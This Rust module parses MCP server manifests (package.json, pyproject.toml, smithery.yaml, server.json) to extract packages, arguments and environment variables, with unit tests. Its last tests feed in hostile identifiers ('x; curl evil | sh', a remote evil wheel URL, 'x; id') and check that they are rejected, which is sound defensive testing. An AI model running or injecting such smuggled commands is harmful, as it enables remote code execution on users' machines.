//! Manifests that name the package with authority: npm's `package.json` and the official
//! MCP registry's `server.json` (`packages[]` with `registryType`, `identifier`, `version`,
//! `packageArguments`, `environmentVariables`). They are the ground truth the LLM reader may
//! not contradict.

use serde_json::Value;

use crate::analysis::plan::{looks_secret, EnvVar, Findings, PackageRef};
use crate::analysis::source::{npm_name_ok, pypi_name_ok, pypi_normalize, Registry};

const MCP_SDK: &str = "@modelcontextprotocol/sdk";
const MAX_ARGS: usize = 32;

/// `package.json`: its name is the npm package, unless it is private or has no `bin`.
pub fn package_json(text: &str) -> Findings {
    let mut f = Findings::default();
    let Ok(v) = serde_json::from_str::<Value>(text) else {
        f.warnings.push("package.json is not valid JSON.".into());
        return f;
    };
    let Some(name) = v["name"].as_str() else {
        f.warnings.push("package.json has no name.".into());
        return f;
    };
    if !npm_name_ok(name) {
        f.warnings
            .push("package.json names a package that is not a valid npm name.".into());
        return f;
    }
    if v["private"].as_bool() == Some(true) {
        f.warnings
            .push("package.json is private: the package is not published on npm.".into());
        return f;
    }
    if v["bin"].is_null() {
        f.warnings
            .push("package.json declares no bin: npx cannot start it.".into());
    }
    let deps = ["dependencies", "peerDependencies", "devDependencies"];
    if !deps.iter().any(|d| v[d].get(MCP_SDK).is_some()) {
        f.warnings
            .push("package.json does not depend on the MCP SDK.".into());
    }
    f.add_package(PackageRef {
        registry: Registry::Npm,
        name: name.to_string(),
        version: v["version"].as_str().map(str::to_string),
        args: Vec::new(),
    });
    f
}

fn arguments(pkg: &Value, f: &mut Findings) -> Vec<String> {
    let mut args = Vec::new();
    for a in pkg["packageArguments"]
        .as_array()
        .into_iter()
        .flatten()
        .take(MAX_ARGS)
    {
        let value = a["value"].as_str().or_else(|| a["default"].as_str());
        match (a["type"].as_str(), a["name"].as_str(), value) {
            (Some("positional"), _, Some(v)) => args.push(v.to_string()),
            (Some("named"), Some(n), Some(v)) => {
                args.push(n.to_string());
                args.push(v.to_string());
            }
            // A flag without a value (e.g. --read-only) only when it says it is fixed.
            (Some("named"), Some(n), None) if a["isFixed"].as_bool() == Some(true) => args.push(n.to_string()),
            _ if a["isRequired"].as_bool() == Some(true) => {
                f.warnings.push("server.json has a required argument without a value; it must be given at deploy time.".into())
            }
            _ => {}
        }
    }
    args
}

/// `pyproject.toml`: `[project] name` is the PyPI project; `[project.scripts]` says what
/// `uvx` will run (the script named like the project, else the only one).
pub fn pyproject_toml(text: &str) -> Findings {
    let mut f = Findings::default();
    let Ok(doc) = basic_toml::from_str::<Value>(text) else {
        f.warnings.push("pyproject.toml is not valid TOML.".into());
        return f;
    };
    let project = &doc["project"];
    let Some(name) = project["name"].as_str() else {
        f.warnings
            .push("pyproject.toml has no [project] name.".into());
        return f;
    };
    if !pypi_name_ok(name) {
        f.warnings
            .push("pyproject.toml names a project that is not a valid PyPI name.".into());
        return f;
    }
    let normalized = pypi_normalize(name);
    let scripts: Vec<&String> = project["scripts"]
        .as_object()
        .map(|m| m.keys().collect())
        .unwrap_or_default();
    let runs_by_name = scripts.iter().any(|s| pypi_normalize(s) == normalized);
    if scripts.is_empty() {
        f.warnings
            .push("pyproject.toml declares no [project.scripts]: uvx cannot start it.".into());
    } else if !runs_by_name && scripts.len() > 1 {
        f.warnings
            .push("pyproject.toml has several scripts and none is named like the project.".into());
    }
    let deps = project["dependencies"].as_array().map(|d| {
        d.iter().filter_map(Value::as_str).any(|d| {
            let n = d
                .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
                .next()
                .unwrap_or_default();
            matches!(pypi_normalize(n).as_str(), "mcp" | "fastmcp")
        })
    });
    if deps != Some(true) {
        f.warnings
            .push("pyproject.toml does not depend on the MCP SDK (mcp or fastmcp).".into());
    }
    f.add_package(PackageRef {
        registry: Registry::Pypi,
        name: normalized,
        version: project["version"].as_str().map(str::to_string),
        args: Vec::new(),
    });
    f
}

/// `smithery.yaml`: `startCommand.configSchema` describes the settings (names, types,
/// descriptions, `required`) and `commandFunction` (JavaScript) maps them to environment
/// variables, as `NAME: config.setting`. Each mapped setting becomes an env var with the
/// schema's description and required flag; the JavaScript is only read, never run.
pub fn smithery_yaml(text: &str) -> Findings {
    let mut f = Findings::default();
    let Ok(doc) = serde_yaml::from_str::<Value>(text) else {
        f.warnings.push("smithery.yaml is not valid YAML.".into());
        return f;
    };
    let start = &doc["startCommand"];
    if start["type"].as_str().is_some_and(|t| t != "stdio") {
        f.warnings
            .push("smithery.yaml describes a non-stdio server; its settings are not used.".into());
        return f;
    }
    let schema = &start["configSchema"];
    let required: Vec<&str> = schema["required"]
        .as_array()
        .map(|r| r.iter().filter_map(Value::as_str).collect())
        .unwrap_or_default();
    let function = start["commandFunction"].as_str().unwrap_or_default();
    for (setting, spec) in schema["properties"].as_object().into_iter().flatten() {
        let Some(env_name) = env_for_setting(function, setting) else {
            continue;
        };
        f.add_env(EnvVar {
            name: env_name.clone(),
            description: spec["description"].as_str().map(str::to_string),
            required: required.contains(&setting.as_str()),
            secret: looks_secret(&env_name) || looks_secret(setting),
            default: spec["default"].as_str().map(str::to_string),
        });
    }
    f
}

/// Finds `ENV_NAME: config.setting` (or `config['setting']`) in the command function.
fn env_for_setting(function: &str, setting: &str) -> Option<String> {
    let patterns = [
        format!("config.{setting}"),
        format!("config['{setting}']"),
        format!("config[\"{setting}\"]"),
    ];
    for pat in &patterns {
        for (at, _) in function.match_indices(pat.as_str()) {
            // The end of the match must not run on into a longer name (config.keyId vs config.key).
            let next = function[at + pat.len()..].chars().next();
            if next.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                continue;
            }
            let before = function[..at].trim_end();
            let Some(before) = before.strip_suffix(':') else {
                continue;
            };
            let name: String = before
                .trim_end()
                .trim_end_matches(['"', '\''])
                .chars()
                .rev()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect::<Vec<_>>()
                .into_iter()
                .rev()
                .collect();
            if crate::analysis::plan::env_name_ok(&name) {
                return Some(name);
            }
        }
    }
    None
}

/// `server.json` of the official MCP registry.
pub fn server_json(text: &str) -> Findings {
    let mut f = Findings::default();
    let Ok(v) = serde_json::from_str::<Value>(text) else {
        f.warnings.push("server.json is not valid JSON.".into());
        return f;
    };
    for pkg in v["packages"].as_array().into_iter().flatten() {
        let id = pkg["identifier"].as_str().unwrap_or_default();
        let (registry, name) = match pkg["registryType"].as_str() {
            Some("npm") if npm_name_ok(id) => (Registry::Npm, id.to_string()),
            Some("pypi") if pypi_name_ok(id) => (Registry::Pypi, pypi_normalize(id)),
            Some("npm") | Some("pypi") => {
                f.warnings
                    .push("server.json names a package with an invalid name.".into());
                continue;
            }
            _ => continue, // oci, nuget, mcpb…: not something we run
        };
        let transport = pkg["transport"]["type"].as_str().unwrap_or("stdio");
        if transport != "stdio" {
            f.warnings.push(format!(
                "server.json package uses the {transport} transport; only stdio packages are run."
            ));
            continue;
        }
        let args = arguments(pkg, &mut f);
        f.add_package(PackageRef {
            registry,
            name,
            version: pkg["version"].as_str().map(str::to_string),
            args,
        });
        for e in pkg["environmentVariables"].as_array().into_iter().flatten() {
            let Some(name) = e["name"].as_str() else {
                continue;
            };
            f.add_env(EnvVar {
                name: name.to_string(),
                description: e["description"].as_str().map(str::to_string),
                required: e["isRequired"].as_bool().unwrap_or(false),
                secret: e["isSecret"]
                    .as_bool()
                    .unwrap_or_else(|| looks_secret(name)),
                default: e["default"].as_str().map(str::to_string),
            });
        }
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_published_mcp_package_json_names_the_package() {
        let f = package_json(&json!({"name": "@acme/mcp-weather", "version": "1.4.0", "bin": {"mcp-weather": "dist/index.js"},
            "dependencies": {"@modelcontextprotocol/sdk": "^1.20.0"}}).to_string());
        assert_eq!(f.packages[0].name, "@acme/mcp-weather");
        assert_eq!(f.packages[0].version.as_deref(), Some("1.4.0"));
        assert!(f.warnings.is_empty(), "{:?}", f.warnings);
    }

    #[test]
    fn private_nameless_or_invalid_package_json_names_nothing() {
        for text in [
            json!({"name": "monorepo-root", "private": true}).to_string(),
            json!({"version": "1.0.0"}).to_string(),
            json!({"name": "Bad Name"}).to_string(),
            "{not json".to_string(),
        ] {
            let f = package_json(&text);
            assert!(f.packages.is_empty() && !f.warnings.is_empty(), "{text}");
        }
    }

    #[test]
    fn server_json_gives_packages_arguments_and_environment() {
        let text = json!({
            "name": "io.github.acme/weather",
            "packages": [
                {"registryType": "npm", "identifier": "@acme/mcp-weather", "version": "1.4.0", "transport": {"type": "stdio"},
                 "packageArguments": [{"type": "positional", "value": "stdio"}, {"type": "named", "name": "--units", "value": "metric"},
                                      {"type": "positional", "valueHint": "api_region", "isRequired": true}],
                 "environmentVariables": [
                     {"name": "WEATHER_API_KEY", "description": "Key from acme.dev", "isRequired": true, "isSecret": true},
                     {"name": "LOG_LEVEL", "default": "info"}]},
                {"registryType": "oci", "identifier": "ghcr.io/acme/weather"},
                {"registryType": "pypi", "identifier": "Acme_Weather", "version": "2.0", "transport": {"type": "streamable-http"}}
            ]
        })
        .to_string();
        let f = server_json(&text);
        assert_eq!(f.packages.len(), 1);
        assert_eq!(f.packages[0].args, ["stdio", "--units", "metric"]);
        let key = &f.env_vars[0];
        assert_eq!(
            (key.name.as_str(), key.required, key.secret),
            ("WEATHER_API_KEY", true, true)
        );
        assert_eq!(f.env_vars[1].default.as_deref(), Some("info"));
        assert_eq!(f.warnings.len(), 2, "{:?}", f.warnings);
    }

    #[test]
    fn pyproject_names_the_normalized_project_and_checks_its_scripts() {
        let text = r#"
[project]
name = "Mcp_Server.Fetch"
version = "0.6.2"
dependencies = ["mcp>=1.1.3", "httpx<0.28"]

[project.scripts]
mcp-server-fetch = "mcp_server_fetch:main"
"#;
        let f = pyproject_toml(text);
        assert_eq!(
            (
                f.packages[0].name.as_str(),
                f.packages[0].version.as_deref()
            ),
            ("mcp-server-fetch", Some("0.6.2"))
        );
        assert!(f.warnings.is_empty(), "{:?}", f.warnings);
        let bare = pyproject_toml("[project]\nname = \"x\"\n");
        assert_eq!(bare.warnings.len(), 2, "{:?}", bare.warnings);
        for bad in [
            "[project\nname=",
            "[tool.poetry]\nname = \"x\"",
            "[project]\nname = \"x; id\"",
        ] {
            let f = pyproject_toml(bad);
            assert!(f.packages.is_empty() && !f.warnings.is_empty(), "{bad}");
        }
    }

    #[test]
    fn smithery_settings_become_env_vars_through_the_command_function() {
        let text = r#"
startCommand:
  type: stdio
  configSchema:
    type: object
    required: [braveApiKey]
    properties:
      braveApiKey:
        type: string
        description: The API key for the Brave Search server.
      region:
        type: string
        default: us
      unused:
        type: string
  commandFunction: |-
    (config) => ({ command: 'node', args: ['dist/index.js'], env: { BRAVE_API_KEY: config.braveApiKey, "BRAVE_REGION": config['region'] } })
"#;
        let f = smithery_yaml(text);
        assert_eq!(f.env_vars.len(), 2, "{:?}", f.env_vars);
        let key = &f.env_vars[0];
        assert_eq!(
            (key.name.as_str(), key.required, key.secret),
            ("BRAVE_API_KEY", true, true)
        );
        assert_eq!(
            key.description.as_deref(),
            Some("The API key for the Brave Search server.")
        );
        let region = f
            .env_vars
            .iter()
            .find(|v| v.name == "BRAVE_REGION")
            .unwrap();
        assert_eq!(
            (region.required, region.default.as_deref()),
            (false, Some("us"))
        );
        assert!(smithery_yaml("startCommand: [unclosed").warnings[0].contains("YAML"));
        assert!(smithery_yaml("startCommand:\n  type: http\n")
            .env_vars
            .is_empty());
    }

    #[test]
    fn server_json_refuses_hostile_identifiers() {
        let text = json!({"packages": [{"registryType": "npm", "identifier": "x; curl evil | sh"},
                                       {"registryType": "pypi", "identifier": "x @ https://evil/x.whl"}]}).to_string();
        let f = server_json(&text);
        assert!(f.packages.is_empty());
        assert_eq!(f.warnings.len(), 2);
    }
}
